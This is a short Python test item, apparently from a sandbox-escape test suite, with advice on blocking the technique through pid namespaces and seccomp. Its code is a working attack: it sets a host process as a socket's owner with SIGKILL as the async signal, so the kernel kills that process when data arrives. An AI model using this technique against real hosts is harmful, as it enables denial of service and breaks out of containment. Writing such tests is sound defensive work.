# title: Kill through a descriptor's owner signal
# tries: Makes a process of the host the owner of a socket, sets SIGKILL as the socket's signal, and lets the kernel send it when data arrives.
# impact: HostDoS
# proof: ended
# host: run
# advice: Run the code in a pid namespace of its own; in seccomp, refuse fcntl with F_SETOWN and F_SETSIG.


def attempt(host):
    import fcntl
    import os
    import signal
    import socket

    set_signal = 10
    receiving, sending = socket.socketpair()
    with receiving, sending:
        fcntl.fcntl(receiving, fcntl.F_SETOWN, host["pid"])
        fcntl.fcntl(receiving, set_signal, int(signal.SIGKILL))
        fcntl.fcntl(receiving, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        sending.send(b"x")
        return "signal asked for"
